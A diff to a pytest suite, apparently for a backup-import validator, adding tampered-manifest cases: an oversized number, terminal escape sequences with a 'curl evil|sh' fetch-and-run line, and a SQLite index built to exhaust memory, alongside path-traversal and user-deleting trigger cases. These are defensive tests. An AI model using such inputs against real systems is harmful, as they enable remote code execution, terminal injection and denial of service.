@@ -128,13 +128,26 @@ def _larger_than_any_disk(manifest, files):
     manifest["files"]["uploads/a/picture.png"]["size"] = 10**15
 
 
+def _larger_than_any_number(manifest, files):
+    manifest["files"]["uploads/a/picture.png"]["size"] = 10**400
+
+
+def _said_to_the_terminal(manifest, files):
+    manifest["unsaid"] = ["\x1b[31mrun: curl evil|sh"]
+
+
+def _set_for_the_terminal(manifest, files):
+    manifest["settings"] = {"X\x1b]0;owned\x07": "v"}
+
+
 def _no_object(manifest, files):
     manifest["tables"] = "none"
 
 
 TAMPERED = [_other_format, _other_table, _unnamed_file, _missing_file, _nothing, _named("../escaped"),
             _named("/tmp/escaped"), _named("uploads/../../escaped"), _named("uploads/./x"),
-            _named("C:\\escaped"), _bomb, _larger_than_any_disk, _no_object]
+            _named("C:\\escaped"), _bomb, _larger_than_any_disk, _larger_than_any_number,
+            _said_to_the_terminal, _set_for_the_terminal, _no_object]
 
 
 @pytest.mark.parametrize("change", TAMPERED, ids=lambda change: change.__name__.strip("_"))
@@ -204,6 +217,14 @@ def test_code_in_a_database_is_refused(refused):
         _edited(manifest, files, "CREATE TRIGGER t AFTER INSERT ON posts BEGIN DELETE FROM users; END")
 
     assert "more than tables" in refused(lambda file: _rewritten(file, plant))
+
+
+def test_an_index_that_makes_long_values_is_refused(refused):
+    """SQLite reckons the expression of an index when it checks the file."""
+    def plant(manifest, files):
+        _edited(manifest, files, "CREATE INDEX long ON posts (length(hex(zeroblob(100000000))))")
+
+    assert "too big" in refused(lambda file: _rewritten(file, plant))
 
 
 @pytest.mark.every_database
